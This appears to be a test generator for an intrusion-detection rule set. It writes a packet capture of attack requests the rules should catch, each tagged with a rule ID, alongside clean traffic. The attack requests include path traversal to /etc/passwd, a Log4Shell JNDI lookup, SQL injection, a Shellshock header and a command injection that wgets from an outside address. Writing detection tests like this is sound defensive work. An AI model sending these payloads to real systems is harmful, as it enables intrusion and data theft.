# tests/signature/default_rules/gen.py: attacks the shipped rules must catch, and clean traffic they must not.
from siglib import Capture, TcpSession, out_path
from scapy.all import IP, TCP
cap = Capture()
P = 42000
def req(data, dport=80):
    global P
    P += 1
    TcpSession(cap, sport=P, dport=dport).handshake().send(data).close()
req("GET /static/../../../../etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n")                  # 2100100, 2100102
req("GET /?x=${jndi:ldap://203.0.113.5/a} HTTP/1.1\r\nHost: a\r\n\r\n")               # 2100103
req("GET /item?id=1%20UNION%20SELECT%20user,pass%20FROM%20users HTTP/1.1\r\n\r\n")     # 2100108
req("GET /ping?host=1.1.1.1;wget http://203.0.113.5/x HTTP/1.1\r\n\r\n")               # 2100105
req("GET /.env HTTP/1.1\r\nHost: a\r\n\r\n")                                           # 2100012
req("GET / HTTP/1.1\r\nUser-Agent: () { :; }; /bin/id\r\n\r\n")                        # 2100106
req("SSH-2.0-Go\r\n", dport=22)                                                        # 2100202
req("GET /index.html HTTP/1.1\r\nHost: a\r\nUser-Agent: curl/8.0\r\n\r\n")             # clean
req("SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n", dport=22)                                    # clean
cap.add(IP(src="198.51.100.10", dst="172.31.19.240") / TCP(sport=43000, dport=8080, flags="FPU"))  # 2100002
cap.write(out_path())
